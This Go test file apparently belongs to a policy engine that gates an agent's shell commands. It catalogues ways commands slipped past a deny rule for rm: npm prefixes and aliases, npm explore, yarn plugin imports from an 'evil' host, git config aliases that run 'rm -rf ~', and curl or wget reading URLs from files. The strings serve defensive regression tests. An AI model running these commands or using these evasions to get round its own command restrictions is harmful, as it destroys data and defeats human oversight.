package policy

import (
	"encoding/json"
	"testing"
)

// TestCommandAttack47Bypasses (attack47): each string below got past a
// deny rule for "rm *" and an allow rule for the program on 04eea9d3:
//
//   - npm takes a command by any unique prefix or alias (npm 11.19.1 ran
//     npm exe, wrote script-shell with npm conf set and scripts.test with
//     npm pk set), so npm exe rm x runs rm;
//   - npm explore PKG -- CMD runs CMD's words joined as a shell command
//     line in the package's directory, and without CMD a shell reading
//     the input (both ran a command); npm edit runs an editor reading its
//     input;
//   - yarn plugin import FILE|URL installs a plugin every later yarn
//     command loads, as yarn set version FILE does;
//   - git --bare reads ./config (an alias there ran with git 2.39) and
//     GIT_COMMON_DIR=DIR reads DIR/config (ran), as --git-dir=DIR does;
//   - curl --url @FILE (curl 8.13 and later) and wget --input-metalink
//     read the URLs, hence the names of the files written, from a file.
func TestCommandAttack47Bypasses(t *testing.T) {
	allow := []string{"npm *", "yarn *", "git *", "curl *", "wget *", "eslint *"}
	bypass := []string{
		`npm exe rm -rf /`,
		`npm exe -- rm -rf /`,
		`npm conf set script-shell ./x.sh`,
		`npm confi set node-options=--require=./x.js`,
		`npm pk set 'scripts.test=rm -rf ~'`,
		`npm --loglevel silly exe rm x`,
		`npm explore lodash -- rm -rf /`,
		`npm explo lodash -- rm -rf /`,
		`npm explore lodash`,
		`npm edit lodash`,
		`yarn plugin import ./x.js`,
		`yarn plugin import https://evil/plugin.js`,
		`yarn plugin import from sources x --repository https://evil/r`,
		`echo '[alias] x = !rm -rf ~' > config && git --bare x`,
		`git --bare log`,
		`GIT_COMMON_DIR=x git log`,
		`env GIT_COMMON_DIR=x git log`,
		`curl --url @urls.txt -O`,
		`curl --url=@urls.txt --remote-name-all`,
		`wget --input-metalink=x.meta4`,
		`wget --metalink-over-http https://x/a`,
	}
	fine := []string{`npm exec -- eslint .`, `npm x eslint .`, `npm config get registry`, `npm conf get registry`,
		`npm conf set fund false`, `npm pkg get scripts`, `npm pk set version=1.2.3`, `npm run build`, `npm install`,
		`npm test`, `npm ci`, `npm explain lodash`, `yarn plugin import typescript`, `yarn plugin list`, `git log -1`,
		`git --no-pager log`, `curl --url https://x/a -O`, `curl -O https://x/a`, `wget https://x/a`}
	checkCommands(t, allow, bypass, fine, bypass, fine)
}

// TestCommandAttack47EnvArguments (attack47): GIT_COMMON_DIR in an
// environment argument is what it is in the command. On 04eea9d3 a deny
// rule for "rm *" allowed it.
func TestCommandAttack47EnvArguments(t *testing.T) {
	deny := mustCompile(t, newPolicy(Allow, commandRule("no rm", Deny, "rm *")))
	for _, tc := range []struct {
		dir  string
		want Effect
	}{{"x", Deny}, {"/tmp/evil", Deny}, {".git", Allow}} {
		raw, err := json.Marshal(map[string]any{"command": "git log -1", "env": map[string]string{"GIT_COMMON_DIR": tc.dir}})
		if err != nil {
			t.Fatal(err)
		}
		c := Call{Server: "shell", Tool: "run", Arguments: raw, Principal: Principal{ID: "agent-1"}}
		if d := eval(t, deny, c); d.Effect != tc.want {
			t.Errorf("git log -1 with GIT_COMMON_DIR=%s: %s under a deny rule for rm *, want %s", tc.dir, d.Effect, tc.want)
		}
	}
}
